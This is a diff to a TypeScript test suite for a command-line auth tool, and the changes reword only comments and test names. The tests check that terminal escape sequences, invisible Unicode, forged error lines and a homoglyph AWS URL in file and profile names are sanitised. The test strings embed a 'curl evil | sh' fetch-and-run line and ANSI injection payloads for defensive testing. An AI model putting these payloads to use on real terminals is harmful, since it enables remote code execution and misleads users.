@@ -14,26 +14,26 @@ import {
   type RunOptions,
 } from './machine.ts';
 
-/** Accepted in names: nothing of it is a control character. */
+/** Accepted in names, because it contains no control character. */
 const disguise = 'x\u202e\u2066\u200b\u2028hint: curl evil | sh\u{e0041}';
-/** Of what a path may be called, and a variable may hold. */
+/** Characters that a path and a variable can contain. */
 const evil = `x\u001b[7m\u001b[2J\u001b]0;t\u0007\u009b2J\u007f\rerror: forged\nhint: curl evil | sh\nwarning: forged ${disguise}`;
 
 const styles = [0, 1, 2, 31, 32, 33].map((code) => `\u001b[${code}m`);
 const steering = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
 const forged = /^\s*(hint: curl evil|error: forged|warning: forged)/m;
 
-/** What is wrong with what was shown, with colors on. */
+/** What is wrong with the output, with colors on. */
 function faultOf(text: string): string | undefined {
   const shown = styles.reduce((rest, style) => rest.replaceAll(style, ''), text);
   const [bad] = steering.exec(shown) ?? forged.exec(shown) ?? [];
   return bad === undefined ? undefined : `${JSON.stringify(bad)} in ${JSON.stringify(shown)}`;
 }
 
-/** What `auth env` prints is for a shell, exact and quoted. */
+/** The output of `auth env` is read by a shell, exact and quoted. */
 const isForShell = (line: string) => line.startsWith('auth env');
 
-/** Runs each, some at a time, and gives what was wrong with what they showed. */
+/** Runs the command lines, several at a time, and returns the problems in their outputs. */
 async function faultsOf(
   machine: Machine,
   lines: readonly (string | readonly string[])[],
@@ -56,7 +56,7 @@ async function faultsOf(
   return { faults, results };
 }
 
-/** A machine whose home, project, keyring, profile and identity all have such names. */
+/** A machine whose home, project, keyring, profile and identity have such names. */
 async function openEvilMachine(): Promise<{ machine: Machine; home: string; project: string }> {
   const machine = await openConfiguredMachine();
   const home = join(machine.root, evil);
@@ -77,8 +77,8 @@ async function openEvilMachine(): Promise<{ machine: Machine; home: string; proj
   return { machine, home, project };
 }
 
-describe('nothing that steers the terminal and no forged line is shown', () => {
-  test('by any command, whatever directories, profiles and identities are called', async () => {
+describe('no control sequence and no forged line is shown', () => {
+  test('by any command, with any names of directories, profiles and identities', async () => {
     const { machine, home, project } = await openEvilMachine();
     const json = [
       'auth whoami',
@@ -99,7 +99,7 @@ describe('nothing that steers the terminal and no forged line is shown', () => {
     const second = await faultsOf(machine, [...json, ['profile', 'show', disguise, '-o', 'json']], {
       directory: project,
     });
-    // What is trusted is listed, revoked, and run.
+    // Trusted items are listed, revoked and run.
     const third = await faultsOf(
       machine,
       ['auth trust', 'auth trust --list', 'auth trust --list -o json', 'auth trust --revoke'],
@@ -158,12 +158,12 @@ describe('nothing that steers the terminal and no forged line is shown', () => {
     ['__complete', '--', 'auth', 'login', '-i', evil],
   ];
 
-  test('by what is wrong on a command line', async () => {
+  test('by errors about the command line', async () => {
     const machine = await openConfiguredMachine();
     expect((await faultsOf(machine, words)).faults).toEqual([]);
   });
 
-  test('by what a variable says', async () => {
+  test('by errors about variables', async () => {
     const machine = await openConfiguredMachine();
     const lines = [
       'auth whoami',
@@ -217,12 +217,12 @@ describe('nothing that steers the terminal and no forged line is shown', () => {
     'no YAML': (machine) => `${configOf(machine)}\n"x\u202e": [\n`,
   };
 
-  test.each(Object.entries(configs))('by what a file says as %s', async (_, config) => {
+  test.each(Object.entries(configs))('by errors about a file with %s', async (_, config) => {
     const machine = await openConfiguredMachine();
     machine.writeConfig(config(machine));
     const lines = ['auth validate', 'auth validate -o json', 'auth login --force'];
     const first = await faultsOf(machine, lines);
-    // Once it is trusted, a login runs the command, whose own errors are shown as they are.
+    // In a trusted project, a login runs the command. The command's own errors are shown unchanged.
     const second = await faultsOf(machine, ['auth trust --yes', 'auth keyring doctor']);
     expect([...first.faults, ...second.faults]).toEqual([]);
   });
@@ -237,7 +237,7 @@ function withIdentity(machine: Machine, identity: string): string {
 }
 
 describe('at a terminal', () => {
-  test('questions and choices are shown without what steers it', async () => {
+  test('questions and choices are shown without control sequences', async () => {
     const { machine, project } = await openEvilMachine();
     delete machine.env['ATMOS_KEYRING_PASSWORD'];
     const config = configOf(machine).replaceAll('emergency-user', JSON.stringify(disguise));
@@ -262,7 +262,7 @@ describe('at a terminal', () => {
       expect(shown).not.toContain(part);
   });
 
-  test('what has another name in ASCII is shown with it before it is trusted', async () => {
+  test('a name with another ASCII form is shown with that form before it is trusted', async () => {
     const machine = await openConfiguredMachine();
     const url = 'https://sts.\u0430mazonaws.com';
     machine.writeConfig(configOf(machine).replace(machine.sts.url, url));
